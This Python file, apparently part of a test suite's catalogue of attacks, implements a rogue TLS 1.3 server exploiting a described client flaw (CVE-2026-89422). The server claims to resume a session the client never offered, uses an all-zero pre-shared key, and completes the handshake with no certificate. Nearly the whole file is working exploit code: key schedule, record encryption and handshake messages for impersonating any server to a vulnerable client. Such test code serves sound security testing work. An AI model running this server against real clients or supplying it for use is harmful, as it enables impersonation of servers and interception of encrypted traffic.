"""A TLS 1.3 server that shows no certificate: it says that it resumes a session that the client never
offered.

CVE-2026-89422: an OTP client (before 27.3.4.18, 28.5.0.7, 29.1.1) believes it, takes zeros for the
pre-shared key, and completes the handshake without having seen, let alone checked, a certificate. All that
is needed of RFC 8446 is here: one suite (TLS_AES_128_GCM_SHA256), one group (x25519), the key schedule of
section 7.1, records of section 5.2.
"""

from __future__ import annotations

import hashlib
import hmac
import os
import socket
import struct

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.attacks.catalogue.records import (
    APPLICATION,
    CHANGE_CIPHER_SPEC,
    HANDSHAKE,
    MAX_RECORD_BYTES,
    Refused,
    Server,
)

SUITE = 0x1301  # TLS_AES_128_GCM_SHA256
X25519, P256 = 0x001D, 0x0017
CLIENT_HELLO, SERVER_HELLO, ENCRYPTED_EXTENSIONS, FINISHED, MESSAGE_HASH = 1, 2, 8, 20, 254
KEY_SHARE, SUPPORTED_VERSIONS, PRE_SHARED_KEY = 51, 43, 41


class Unsolicited(Server):
    def __init__(self, connection: socket.socket) -> None:
        super().__init__(connection)
        self._write: _Keys | None = None
        self._read: _Keys | None = None

    # ---- the handshake

    def handshake(self) -> None:
        """Raises Refused where the client ends it."""
        kind, hello = self._record()
        if kind != HANDSHAKE or hello[0] != CLIENT_HELLO:
            raise Refused("no ClientHello")
        self._transcript += hello
        session, shares = _client_hello(hello)
        if not {X25519, P256} & shares.keys():  # a share of another group only: ask for one of ours
            self._transcript = _message(MESSAGE_HASH, hashlib.sha256(hello).digest())
            self._plain(_retry_request(session))
            _, hello = self._record()
            if hello[0] != CLIENT_HELLO:
                raise Refused("an alert in place of another ClientHello")
            self._transcript += hello
            session, shares = _client_hello(hello)
        group, ours, shared = _exchange(shares)
        self._plain(_server_hello(session, group, ours))
        self._connection.sendall(_record_of(CHANGE_CIPHER_SPEC, b"\x01"))

        early = _extract(bytes(32), bytes(32))  # the key that nobody shared: zeros
        secret = _extract(_derive(early, b"derived", b""), shared)
        theirs = _derive(secret, b"c hs traffic", self._transcript)
        mine = _derive(secret, b"s hs traffic", self._transcript)
        self._write, self._read = _Keys(mine), _Keys(theirs)
        self._say(_message(ENCRYPTED_EXTENSIONS, struct.pack(">H", 0)))
        self._say(_message(FINISHED, _verify(mine, self._transcript)))

        master = _extract(_derive(secret, b"derived", b""), bytes(32))
        application = [
            _derive(master, label, self._transcript) for label in (b"c ap traffic", b"s ap traffic")
        ]
        kind, finished = self._record()
        if kind != HANDSHAKE or finished[0] != FINISHED:
            raise Refused(f"an alert or no Finished: {kind} {finished[:2].hex()}")
        self._read, self._write = _Keys(application[0]), _Keys(application[1])

    def _plain(self, message: bytes) -> None:
        self._transcript += message
        self._connection.sendall(_record_of(HANDSHAKE, message))

    def _say(self, message: bytes) -> None:
        self._transcript += message
        self._send(HANDSHAKE, message)

    # ---- records

    def _send(self, kind: int, content: bytes) -> None:
        assert self._write is not None
        header = struct.pack(">BHH", APPLICATION, 0x0303, len(content) + 17)
        self._connection.sendall(header + self._write.seal(content + bytes([kind]), header))

    def _record(self) -> tuple[int, bytes]:
        """The next record that is no ChangeCipherSpec: (type, content)."""
        while True:
            header = self._exactly(5)
            kind, _, length = struct.unpack(">BHH", header)
            if length > MAX_RECORD_BYTES:
                raise Refused("no TLS")
            body = self._exactly(length)
            if kind == CHANGE_CIPHER_SPEC:
                continue
            if kind == APPLICATION and self._read is not None:
                inner = self._read.open(body, header).rstrip(b"\0")
                return inner[-1], inner[:-1]
            return kind, body


# ---- RFC 8446, 7.1 to 7.3


class _Keys:
    """One direction's key, and how many records it has seen."""

    def __init__(self, secret: bytes) -> None:
        self._cipher = AESGCM(_expand(secret, b"key", b"", 16))
        self._iv = _expand(secret, b"iv", b"", 12)
        self._sequence = 0

    def _nonce(self) -> bytes:
        number = self._sequence.to_bytes(12)
        self._sequence += 1
        return bytes(a ^ b for a, b in zip(self._iv, number, strict=True))

    def seal(self, content: bytes, header: bytes) -> bytes:
        return self._cipher.encrypt(self._nonce(), content, header)

    def open(self, body: bytes, header: bytes) -> bytes:
        return self._cipher.decrypt(self._nonce(), body, header)


def _extract(salt: bytes, material: bytes) -> bytes:
    return hmac.digest(salt, material, "sha256")


def _expand(secret: bytes, label: bytes, context: bytes, length: int) -> bytes:
    """HKDF-Expand-Label; one block is enough for all that is asked for here."""
    named = b"tls13 " + label
    what = struct.pack(">HB", length, len(named)) + named + struct.pack(">B", len(context)) + context
    return hmac.digest(secret, what + b"\x01", "sha256")[:length]


def _derive(secret: bytes, label: bytes, messages: bytes) -> bytes:
    return _expand(secret, label, hashlib.sha256(messages).digest(), 32)


def _verify(secret: bytes, messages: bytes) -> bytes:
    return hmac.digest(_expand(secret, b"finished", b"", 32), hashlib.sha256(messages).digest(), "sha256")


# ---- messages


def _message(kind: int, body: bytes) -> bytes:
    return bytes([kind]) + len(body).to_bytes(3) + body


def _record_of(kind: int, content: bytes) -> bytes:
    return struct.pack(">BHH", kind, 0x0303, len(content)) + content


def _client_hello(message: bytes) -> tuple[bytes, dict[int, bytes]]:
    """The session id to be echoed, and the key shares by group."""
    at = 4 + 2 + 32
    session = message[at + 1 : at + 1 + message[at]]
    at += 1 + message[at]
    at += 2 + int.from_bytes(message[at : at + 2])  # suites
    at += 1 + message[at]  # compression
    shares: dict[int, bytes] = {}
    at += 2
    while at + 4 <= len(message):
        kind, length = struct.unpack_from(">HH", message, at)
        body = message[at + 4 : at + 4 + length]
        at += 4 + length
        place = 2
        while kind == KEY_SHARE and place + 4 <= len(body):
            group, size = struct.unpack_from(">HH", body, place)
            shares[group] = body[place + 4 : place + 4 + size]
            place += 4 + size
    return session, shares


def _exchange(shares: dict[int, bytes]) -> tuple[int, bytes, bytes]:
    """Group, our public key, the shared secret; of the groups that a client sends a share for."""
    if X25519 in shares:
        key = X25519PrivateKey.generate()
        public = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
        return X25519, public, key.exchange(X25519PublicKey.from_public_bytes(shares[X25519]))
    if P256 in shares:
        own = ec.generate_private_key(ec.SECP256R1())
        public = own.public_key().public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
        theirs = ec.EllipticCurvePublicKey.from_encoded_point(ec.SECP256R1(), shares[P256])
        return P256, public, own.exchange(ec.ECDH(), theirs)
    raise Refused(f"no group in common: {sorted(shares)}")


def _server_hello(session: bytes, group: int, public: bytes) -> bytes:
    share = struct.pack(">HH", group, len(public)) + public
    nobody_offered = _extension(
        PRE_SHARED_KEY, struct.pack(">H", 0)
    )  # identity 0 of those that nobody offered
    return _hello(session, os.urandom(32), _extension(KEY_SHARE, share) + nobody_offered)


def _retry_request(session: bytes) -> bytes:
    """HelloRetryRequest: a ServerHello whose random is a constant (RFC 8446, 4.1.3)."""
    return _hello(
        session,
        hashlib.sha256(b"HelloRetryRequest").digest(),
        _extension(KEY_SHARE, struct.pack(">H", X25519)),
    )


def _hello(session: bytes, random: bytes, extensions: bytes) -> bytes:
    extensions += _extension(SUPPORTED_VERSIONS, struct.pack(">H", 0x0304))
    echoed = bytes([len(session)]) + session
    chosen = struct.pack(">HBH", SUITE, 0, len(extensions)) + extensions
    return _message(SERVER_HELLO, struct.pack(">H", 0x0303) + random + echoed + chosen)


def _extension(kind: int, body: bytes) -> bytes:
    return struct.pack(">HH", kind, len(body)) + body
